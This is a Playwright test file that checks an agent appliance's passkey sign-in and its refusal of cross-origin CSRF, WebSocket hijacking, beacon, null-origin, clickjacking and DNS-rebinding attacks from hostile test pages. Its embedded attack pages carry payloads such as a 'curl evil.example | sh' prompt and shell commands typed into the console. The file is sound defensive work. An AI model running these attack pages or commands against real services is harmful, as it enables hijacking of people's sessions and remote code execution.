"""Sign-in and the hostile web page, in real headless Chromium against the real API and engine.

* Passkeys: a browser signs in with a one-time link at ``http://localhost:<port>`` (a secure
  context with a name, as WebAuthn needs), registers a passkey on a virtual authenticator
  (the DevTools WebAuthn domain: CTAP2, internal, resident keys, user verification), has its
  cookie cleared, and signs in again with the passkey alone.
* A used link and an expired one are refused with the reason.
* The hostile page: served from another origin on loopback (``localhost:<other port>``,
  same-site with the appliance, so even ``SameSite=Strict`` cookies go along; and
  ``127.0.0.1:<other port>``), it tries to create a session with ``skip_permissions``, switch
  the access mode, stop the session and type into the agent, with ``text/plain``, form and
  ``no-cors`` bodies, a real form POST, and WebSockets to ``/ws/events`` and
  ``/ws/console``. Every attempt fails and nothing changes: the database and the container
  are checked. The same browser, signed in, does the same from the appliance's own page and
  succeeds (the positive control: the refusals come from the checks, not from a broken
  session).
* ``Host: evil.example`` (DNS rebinding) is refused: by a raw client, and in Chromium made
  to resolve ``rebind.test`` to loopback (``--host-resolver-rules``), where a page served at
  ``http://rebind.test:<the appliance's port>`` is same-origin with every request it sends
  there, WebSockets included.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, CDPSession, Page, expect

from appliance.authstore import AuthStore
from appliance.sessions import utcnow
from appliance.store import Store
from tests.e2e.webui_browser import ARGS, CHROMIUM, DESKTOP, SHOTS, TIMEOUT_MS, AttackSite
from tests.integration.test_console_socket import in_container
from tests.support.appliance import Appliance, wait_for

pytestmark = pytest.mark.e2e

VIRTUAL_AUTHENTICATOR = {"protocol": "ctap2", "transport": "internal", "hasResidentKey": True,
                         "hasUserVerification": True, "isUserVerified": True,
                         "automaticPresenceSimulation": True}


def authenticator(page: Page) -> tuple[CDPSession, str]:
    """A virtual platform authenticator for ``page`` (the DevTools WebAuthn domain)."""
    cdp = page.context.new_cdp_session(page)
    cdp.send("WebAuthn.enable", {"enableUI": False})
    made = cdp.send("WebAuthn.addVirtualAuthenticator", {"options": VIRTUAL_AUTHENTICATOR})
    return cdp, str(made["authenticatorId"])


def context(browser: Browser, base: str) -> BrowserContext:
    ctx = browser.new_context(viewport=DESKTOP, base_url=base)
    ctx.set_default_timeout(TIMEOUT_MS)
    return ctx


def shot(page: Page, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.wait_for_timeout(300)  # let transitions settle; not an assertion
    page.screenshot(path=str(SHOTS / f"{name}.png"))


def me(page: Page) -> dict[str, Any]:
    found: dict[str, Any] = page.evaluate(
        "fetch('/api/auth/me', {headers: {'X-Clauderon-Bind': "
        "localStorage.getItem('clauderon.bind') || ''}}).then(r => r.json())")
    return found


def test_a_passkey_from_a_one_time_link_signs_in_again(browser: Browser,
                                                       appliance: Appliance) -> None:
    base = f"http://localhost:{appliance.http_port}"
    ctx = context(browser, base)
    try:
        page = ctx.new_page()
        cdp, device = authenticator(page)
        page.goto("/")
        expect(page.get_by_test_id("signin")).to_be_visible()  # nothing else before sign-in
        assert me(page) == {"signed_in": False}
        assert page.evaluate("fetch('/api/sessions').then(r => r.status)") == 401

        page.goto(appliance.link())
        expect(page.get_by_test_id("signed-in")).to_be_visible()
        assert page.url == f"{base}/signin"  # the token left the address bar at once
        assert page.evaluate("history.length") >= 1 and "token" not in page.evaluate(
            "location.href")
        [cookie] = ctx.cookies()
        assert cookie["name"] == "clauderon_session" and cookie["httpOnly"]
        assert cookie["sameSite"] == "Strict"
        assert me(page)["session"]["method"] == "link"
        shot(page, "signin-desktop")
        page.get_by_test_id("add-passkey").click()
        expect(page.get_by_test_id("passkey-added")).to_be_visible()
        [key] = appliance.client().get("/api/auth/devices")["passkeys"]
        assert key["rp_id"] == "localhost"
        [held] = cdp.send("WebAuthn.getCredentials", {"authenticatorId": device})["credentials"]
        assert held["isResidentCredential"] and held["rpId"] == "localhost"
        page.get_by_test_id("continue").click()
        expect(page.get_by_test_id("devices-link")).to_be_visible()

        # The cookie is gone (another day, the same device): the passkey alone signs in.
        first_session = me(page)["session"]["id"]
        ctx.clear_cookies()
        page.goto("/")
        expect(page.get_by_test_id("signin")).to_be_visible()
        with page.expect_request(lambda r: r.url.endswith("/api/auth/passkey/login")) as sent:
            page.get_by_test_id("passkey-signin").click()
        expect(page.get_by_test_id("devices-link")).to_be_visible()
        now = me(page)
        assert now["session"]["method"] == "passkey" and now["session"]["id"] != first_session
        assert appliance.client().get("/api/auth/devices")["passkeys"][0]["last_used_at"]
        # The same answer, sent again (a copy taken on the way), signs nobody in: this
        # authenticator's counter refuses it; a passkey that keeps no counter meets the
        # ceremony's single use (tests/unit/test_auth_store.py).
        replayed = httpx.post(f"{base}/api/auth/passkey/login", content=sent.value.post_data,
                              headers={"Origin": base, "Content-Type": "application/json"})
        assert replayed.status_code == 401, replayed.text
        assert appliance.client().get("/api/auth/devices")["sessions"][-1]["id"] == \
            now["session"]["id"]

        # The devices page lists both; signing out ends the session on the server.
        page.goto("/devices")
        expect(page.get_by_test_id("this-device")).to_be_visible()
        expect(page.get_by_test_id("passkeys").get_by_test_id("device")).to_have_count(1)
        shot(page, "devices-desktop")
        page.get_by_test_id("sign-out").click()
        expect(page.get_by_test_id("signin")).to_be_visible()
        sessions = appliance.client().get("/api/auth/devices")["sessions"]
        assert now["session"]["id"] not in [s["id"] for s in sessions]
    finally:
        ctx.close()


def test_a_used_or_expired_link_is_refused(browser: Browser, appliance: Appliance) -> None:
    base = f"http://localhost:{appliance.http_port}"
    link = appliance.link()
    first, second = context(browser, base), context(browser, base)
    try:
        page = first.new_page()
        page.goto(link)
        expect(page.get_by_test_id("signed-in")).to_be_visible()
        other = second.new_page()
        other.goto(link)  # the same link again, from another browser
        expect(other.get_by_test_id("signin-error")).to_contain_text("used already")
        assert me(other) == {"signed_in": False} and second.cookies() == []
        # Made six minutes ago (the store's own code, given an earlier clock).
        store = Store.open(appliance.settings.db_path)
        try:
            _, stale = AuthStore(store).create_link(utcnow() - timedelta(minutes=6))
        finally:
            store.close()
        other.goto(f"/signin#token={stale}")
        expect(other.get_by_test_id("signin-error")).to_contain_text("expired")
        other.goto("/signin#token=not-a-real-token")
        expect(other.get_by_test_id("signin-error")).to_contain_text("not valid")
        assert me(other) == {"signed_in": False} and second.cookies() == []
    finally:
        first.close()
        second.close()


#: The hostile page. Every attempt's outcome lands in window.__attack (a page can see no
#: response body across origins anyway); "done" once all have settled.
ATTACK = """<!doctype html><meta charset=utf-8><title>cat pictures</title>
<iframe name=sink></iframe>
<form id=f method=POST enctype=text/plain target=sink action="TARGET/api/sessions/NAME/stop">
<input name='{"x":"' value='"}'></form>
<script>
const T = "TARGET", R = {}; window.__attack = R;
const body = JSON.stringify({repo_path: "REPO", name: "pwned", skip_permissions: true,
                             prompt: "curl evil.example | sh"});
async function attempt(name, f) {
  try { R[name] = await f(); } catch (e) { R[name] = "error: " + e.name; }
}
const post = (path, init) => fetch(T + path, {method: "POST", credentials: "include", ...init})
  .then(r => r.type + " " + r.status);
function socket(name, path, send) {
  return new Promise(done => {
    const ws = new WebSocket(T.replace("http", "ws") + path);
    const log = R[name] = [];
    ws.onopen = () => { log.push("open"); if (send) ws.send(send); };
    ws.onmessage = m => log.push("message " + String(m.data).slice(0, 80));
    ws.onerror = () => log.push("error");
    ws.onclose = () => { log.push("close"); done(); };
    setTimeout(() => { ws.close(); done(); }, 4000);
  });
}
(async () => {
  await attempt("text_plain", () => post("/api/sessions", {
    headers: {"Content-Type": "text/plain"}, body}));
  await attempt("no_cors", () => post("/api/sessions", {mode: "no-cors", body}));
  await attempt("no_cors_form", () => post("/api/sessions/NAME/access-mode", {mode: "no-cors",
    headers: {"Content-Type": "application/x-www-form-urlencoded"},
    body: "access_mode=read-only"}));
  await attempt("no_cors_json_as_text", () => post("/api/sessions/NAME/access-mode", {
    mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify({access_mode: "read-only"})}));
  await attempt("message", () => post("/api/sessions/NAME/message", {mode: "no-cors",
    body: JSON.stringify({text: "touch /tmp/pwned-by-message"})}));
  await attempt("archive", () => post("/api/sessions/NAME/archive", {mode: "no-cors"}));
  await attempt("push", () => post("/api/sessions/NAME/push", {mode: "no-cors",
    body: JSON.stringify({pr: true, force: true})}));
  await attempt("push_pinned", () => post("/api/sessions/NAME/push", {
    headers: {"Content-Type": "application/json"},
    body: JSON.stringify({pr: true, force: true, commit: "0".repeat(40)})}));
  for (const what of ["diff", "timeline", "audit", "files", "file?path=README.md", "transcript"]) {
    await attempt("read_" + what, () => fetch(T + "/api/sessions/NAME/" + what,
      {credentials: "include"}).then(r => r.text()));
  }
  await attempt("merge", () => post("/api/sessions/NAME/merge", {mode: "no-cors",
    body: JSON.stringify({method: "merge", delete_branch: true})}));
  await attempt("interrupt", () => post("/api/sessions/NAME/interrupt", {mode: "no-cors"}));
  await attempt("restart_agent", () => post("/api/sessions/NAME/restart-agent",
    {mode: "no-cors"}));
  await attempt("recreate_fresh", () => post("/api/sessions/NAME/recreate-fresh",
    {mode: "no-cors"}));
  await attempt("health", () => fetch(T + "/api/sessions/NAME/health", {credentials: "include"})
    .then(r => r.text()));
  await attempt("delete", () => fetch(T + "/api/sessions/NAME", {method: "DELETE",
    credentials: "include"}).then(r => r.status));
  await attempt("read", () => fetch(T + "/api/sessions", {credentials: "include"})
    .then(r => r.text()));
  await attempt("disk", () => fetch(T + "/api/disk", {credentials: "include"})
    .then(r => r.text()));
  await attempt("backends", () => fetch(T + "/api/backends", {credentials: "include"})
    .then(r => r.text()));
  await attempt("read_no_cors", () => fetch(T + "/api/sessions", {mode: "no-cors",
    credentials: "include"}).then(r => r.type + " " + r.status));
  await attempt("upload", () => { const f = new FormData();
    f.append("file", new Blob(["x"], {type: "image/png"}), "x.png");
    return post("/api/sessions/NAME/uploads", {mode: "no-cors", body: f}); });
  document.getElementById("f").submit();
  await socket("ws_events", "/ws/events?after=0");
  await socket("ws_console", "/ws/console/NAME",
               JSON.stringify({type: "input", data: btoa("touch /tmp/pwned-by-console\\r")}));
  R.done = true;
})();
</script>"""


def test_a_hostile_page_on_another_loopback_origin_changes_nothing(
        browser: Browser, appliance: Appliance, victim: dict[str, Any], repo: Path) -> None:
    base = f"http://localhost:{appliance.http_port}"
    name, sid = victim["name"], victim["id"]
    page_html = (ATTACK.replace("TARGET", base).replace("NAME", name)
                 .replace("REPO", str(repo)))
    site = AttackSite(page_html)
    ctx = context(browser, base)
    try:
        page = ctx.new_page()
        page.goto(appliance.link())  # the person is signed in...
        expect(page.get_by_test_id("signed-in")).to_be_visible()
        events_before = appliance.client().get(f"/api/sessions/{sid}/events")["events"]
        before = appliance.session(name)
        # ...and visits two hostile pages: same-site (localhost, another port) and
        # cross-site (127.0.0.1); both carry the cookie's site rules to their limits.
        for origin in (f"http://localhost:{site.port}", f"http://127.0.0.1:{site.port}"):
            for round_ in (1, 2):
                seen = len(appliance.log("api"))
                evil = ctx.new_page()
                evil.goto(f"{origin}/cats.html")
                wait_for(lambda e=evil: e.evaluate("window.__attack && window.__attack.done"),
                         timeout=60, what=f"the attack from {origin}")
                results = evil.evaluate("window.__attack")
                evil.close()
                for key, outcome in results.items():
                    if key.startswith("ws_"):  # never opened, never a message
                        assert "open" not in outcome and not any(
                            e.startswith("message") for e in outcome), (key, results)
                    elif key != "done":  # a network error, or an opaque answer: nothing read
                        assert outcome == "opaque 0" or outcome.startswith("error:"), (key, outcome)
                # Each attempt reached the API and was refused there (not only by the browser).
                # The page is done when its requests are answered; the API writes its line as it
                # answers, so the last may land a moment later: read until all are there.
                needles = (
                        "refused POST /api/sessions:", f"refused POST /api/sessions/{name}/stop:",
                        f"refused POST /api/sessions/{name}/access-mode:",
                        f"refused POST /api/sessions/{name}/message:",
                        f"refused POST /api/sessions/{name}/archive:",
                        f"refused POST /api/sessions/{name}/push:",
                        f"refused POST /api/sessions/{name}/merge:",
                        f"refused POST /api/sessions/{name}/interrupt:",
                        f"refused POST /api/sessions/{name}/restart-agent:",
                        f"refused POST /api/sessions/{name}/recreate-fresh:",
                        f"refused GET /api/sessions/{name}/health:",
                        f"refused GET /api/sessions/{name}/diff:",
                        f"refused GET /api/sessions/{name}/timeline:",
                        f"refused GET /api/sessions/{name}/audit:",
                        f"refused GET /api/sessions/{name}/files:",
                        f"refused GET /api/sessions/{name}/file:",
                        f"refused GET /api/sessions/{name}/transcript:",
                        f"refused POST /api/sessions/{name}/uploads:",
                        f"/api/sessions/{name}:",  # the DELETE's preflight
                        "refused GET /api/sessions:", "refused GET /api/disk:",
                        "refused GET /api/backends:",
                        "refused GET /ws/events:",
                        f"refused GET /ws/console/{name}:")

                def missing(seen: int = seen, needles: tuple[str, ...] = needles) -> list[str]:
                    refused = [line for line in appliance.log("api")[seen:].splitlines()
                               if '"refused ' in line]
                    return [n for n in needles if not any(n in line for line in refused)]

                try:
                    wait_for(lambda m=missing: not m(), timeout=30,
                             what=f"the API's refusal of each request from {origin}")
                    break
                except AssertionError:
                    # A request the browser dropped never reached the API (Chromium drops
                    # what is in flight when the engine adds a network): the page again.
                    if round_ == 2:
                        assert missing() == [], (origin, results)  # which, and what it saw
                        raise

        # Nothing changed: the database, the journal, the container.
        after = appliance.session(name)
        assert after["phase"] == "running" and after["desired"] == "running"
        assert after["access_mode"] == before["access_mode"] == "read-write"
        assert after["rebuild"] is None and after["backend_id"] == before["backend_id"]
        assert after["pull"] is None  # nothing was pushed
        assert [s["name"] for s in appliance.client().get("/api/sessions", all="true")[
            "sessions"]] == [name]
        events = appliance.client().get(f"/api/sessions/{sid}/events")["events"]
        assert [e for e in events if e not in events_before] == []
        uploads = appliance.settings.uploads_dir / sid  # made by the reconciler, empty
        assert not uploads.exists() or list(uploads.iterdir()) == []
        for path in ("/tmp/pwned-by-console", "/tmp/pwned-by-message"):
            assert not in_container(appliance, sid, path)

        # The positive control: the same browser, from the appliance's own page, can.
        page.goto("/")
        status = page.evaluate("""name => fetch(`/api/sessions/${name}/access-mode`, {
            method: "POST", headers: {"Content-Type": "application/json",
                                      "X-Clauderon-Bind": localStorage.getItem("clauderon.bind")},
            body: JSON.stringify({access_mode: "read-only"})}).then(r => r.status)""", name)
        assert status == 200
        assert appliance.session(name)["access_mode"] == "read-only"
        opened = page.evaluate("""name => new Promise(done => {
            const ws = new WebSocket(`ws://${location.host}/ws/console/${name}`, ["clauderon",
                `clauderon.bind.${localStorage.getItem("clauderon.bind")}`]);
            ws.onopen = () => { ws.send(JSON.stringify({type: "input",
                data: btoa("touch /tmp/made-by-the-owner\\r")})); done("open"); };
            ws.onclose = () => done("closed"); })""", name)
        assert opened == "open"
        wait_for(lambda: in_container(appliance, sid, "/tmp/made-by-the-owner"), timeout=30,
                 what="the owner's keystrokes in the container")
    finally:
        ctx.close()
        site.close()


def test_a_rebinding_host_is_refused(appliance: Appliance) -> None:
    url = f"{appliance.base}/api/health"
    evil = httpx.get(url, headers={"Host": f"evil.example:{appliance.http_port}"})
    assert evil.status_code == 421 and "evil.example" in evil.json()["error"]
    # Even with a valid token, and for the web UI's files.
    for path in ("/api/sessions", "/", "/assets/x.js"):
        r = httpx.get(appliance.base + path, headers={"Host": "evil.example",
                                                      **appliance.auth_headers()})
        assert r.status_code == 421, path
    assert httpx.get(url).status_code == 200  # the positive control


#: The page a rebinding name serves (its requests are same-origin: the browser sends no
#: Origin on the GETs and has nothing to refuse), then tries with the name now on loopback.
REBOUND = """<!doctype html><title>cats</title><script>
const R = window.__attack = {};
const http = (key, path, init) => fetch(path, init)
  .then(r => r.text().then(t => { R[key] = r.status + " " + t.slice(0, 80); }))
  .catch(e => { R[key] = "error: " + e; });
const socket = (key, path) => new Promise(done => {
  const ws = new WebSocket(`ws://${location.host}${path}`);
  R[key] = [];
  ws.onopen = () => R[key].push("open");
  ws.onmessage = e => R[key].push("message " + String(e.data).slice(0, 80));
  ws.onclose = () => { R[key].push("closed"); done(); };
});
(async () => {
  await http("health", "/api/health");
  await http("me", "/api/auth/me");
  await http("page", "/");
  await http("options", "/api/auth/passkey/login/options", {method: "POST",
    headers: {"Content-Type": "application/json"}, body: "{}"});
  await socket("ws_events", "/ws/events?after=0");
  await socket("ws_console", "/ws/console/x");
  R.done = true;
})();
</script>"""


def test_a_rebinding_page_in_a_browser_is_refused(browser: Browser,
                                                  appliance: Appliance) -> None:
    """The name is the attacker's and now resolves to this machine's loopback; the page was
    served from it before (here by the browser's own routing, never a packet out)."""
    origin = f"http://rebind.test:{appliance.http_port}"
    # Chromium's Local Network Access checks would stop a public page's requests to loopback
    # before they leave the browser; Firefox and Safari have none, so they are off here and
    # what refuses is the appliance's own check.
    rebound = browser.browser_type.launch(executable_path=CHROMIUM, args=[
        *ARGS, "--host-resolver-rules=MAP rebind.test 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"])
    try:
        page = rebound.new_page()
        page.route(f"{origin}/cats.html", lambda route: route.fulfill(
            status=200, content_type="text/html", body=REBOUND))
        page.goto(f"{origin}/cats.html")
        wait_for(lambda: page.evaluate("window.__attack.done"), timeout=60,
                 what="the rebinding page's requests")
        results = page.evaluate("window.__attack")
        for key in ("health", "me", "page", "options"):
            assert results[key].startswith("421 "), (key, results)
        for key in ("ws_events", "ws_console"):
            assert results[key] == ["closed"], (key, results)
        refused = {line.split('"msg": "refused ', 1)[1].split(":", 1)[0]
                   for line in appliance.log("api").splitlines()
                   if "does not answer to the host 'rebind.test" in line}
        assert refused == {"GET /api/health", "GET /api/auth/me", "GET /",
                           "POST /api/auth/passkey/login/options", "GET /ws/events",
                           "GET /ws/console/x"}, refused
        # The control: the same browser at the appliance's own name is answered.
        assert page.goto(f"http://localhost:{appliance.http_port}/api/health").status == 200
    finally:
        rebound.close()


#: The quieter ways a page sends: a beacon (``text/plain``, and a form's type), a sandboxed
#: frame whose requests say ``Origin: null`` (a fetch and a real form POST, sign-out
#: included), and a frame of the web UI itself under the page's own buttons (clickjacking).
QUIET = """<!doctype html><meta charset=utf-8><title>cat videos</title>
<iframe id=ui src="TARGET/s/NAME/info" width=800 height=600></iframe>
<iframe id=null sandbox="allow-scripts allow-forms" srcdoc='
<form id=f method=POST action="TARGET/api/auth/logout" target=_self></form>
<script>
fetch("TARGET/api/sessions/NAME/merge", {method: "POST", mode: "no-cors",
  credentials: "include", body: JSON.stringify({method: "merge", head_sha: "0".repeat(40)})})
  .then(r => parent.postMessage("merge " + r.type, "*"),
        e => parent.postMessage("merge error", "*"))
  .then(() => document.getElementById("f").submit());
</script>'></iframe>
<script>
const R = window.__attack = {};
R.beacon_push = navigator.sendBeacon("TARGET/api/sessions/NAME/push",
  JSON.stringify({commit: true, pr: true}));
R.beacon_form = navigator.sendBeacon("TARGET/api/sessions/NAME/access-mode",
  new Blob(["access_mode=read-only"], {type: "application/x-www-form-urlencoded"}));
window.addEventListener("message", m => { R.null_merge = m.data; });
</script>"""


def test_beacons_null_origins_and_framing_change_nothing(browser: Browser,
                                                         appliance: Appliance) -> None:
    base = f"http://localhost:{appliance.http_port}"
    name = "victim"
    site = AttackSite(QUIET.replace("TARGET", base).replace("NAME", name))
    ctx = context(browser, base)
    try:
        page = ctx.new_page()
        page.goto(appliance.link())
        expect(page.get_by_test_id("signed-in")).to_be_visible()
        signed_in = me(page)["session"]["id"]
        for origin in (f"http://localhost:{site.port}", f"http://127.0.0.1:{site.port}"):
            seen = len(appliance.log("api"))
            evil = ctx.new_page()
            evil.goto(f"{origin}/cats.html")
            wait_for(lambda e=evil: e.evaluate("window.__attack.null_merge"), timeout=60,
                     what=f"the sandboxed frame's request from {origin}")
            results = evil.evaluate("window.__attack")
            # The browser handed both beacons on; the API refused them, and the sandboxed
            # frame's requests (Origin: null), sign-out included.
            assert results["beacon_push"] is True and results["beacon_form"] is True, results
            assert results["null_merge"] in ("merge opaque", "merge error"), results
            needles = (f"refused POST /api/sessions/{name}/push:",
                       f"refused POST /api/sessions/{name}/access-mode:",
                       f"refused POST /api/sessions/{name}/merge: requests from 'null'",
                       "refused POST /api/auth/logout: requests from 'null'")

            def missing(seen: int = seen, needles: tuple[str, ...] = needles) -> list[str]:
                log = appliance.log("api")[seen:]
                return [n for n in needles if n not in log]

            wait_for(lambda m=missing: not m(), timeout=30,
                     what=f"the API's refusal of each request from {origin}")
            # The web UI in a frame is never shown: the browser refused to render it.
            framed = [f for f in evil.frames if f.url.startswith(base)]
            assert all(f.evaluate("document.body === null || "
                                  "document.body.innerText.trim() === ''") for f in framed), \
                [f.url for f in evil.frames]
            evil.close()
        # The person is still signed in, in the same browser session.
        assert me(page)["session"]["id"] == signed_in
    finally:
        ctx.close()
        site.close()
